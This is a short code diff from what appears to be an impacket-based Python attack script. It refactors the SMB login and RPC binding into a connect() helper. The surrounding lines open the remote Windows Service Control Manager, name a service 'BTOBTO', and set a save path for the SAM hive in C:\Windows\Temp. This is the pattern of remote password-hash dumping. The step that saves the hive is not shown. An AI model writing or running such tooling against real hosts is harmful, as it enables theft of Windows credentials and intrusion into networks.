@@ -25,7 +25,8 @@ SERVICE_NAME = "BTOBTO"
 SAVE_FILE = "C:\\Windows\\Temp\\SAM.save"
 
 
-def main(server: str, user: str, password: str) -> None:
+def connect(server: str, user: str, password: str):
+    """An SMB 2.1 session to ``server``, and a function binding an interface on one of its pipes."""
     smb = SMBConnection(server, server, preferredDialect=SMB2_DIALECT_21)
     smb.login(user, password)
 
@@ -35,6 +36,11 @@ def main(server: str, user: str, password: str) -> None:
         dce.bind(uuid)
         return dce
 
+    return smb, bind
+
+
+def main(server: str, user: str, password: str) -> None:
+    _smb, bind = connect(server, user, password)
     dce = bind("\\svcctl", scmr.MSRPC_UUID_SCMR)
     manager = scmr.hROpenSCManagerW(dce)["lpScHandle"]
     try:
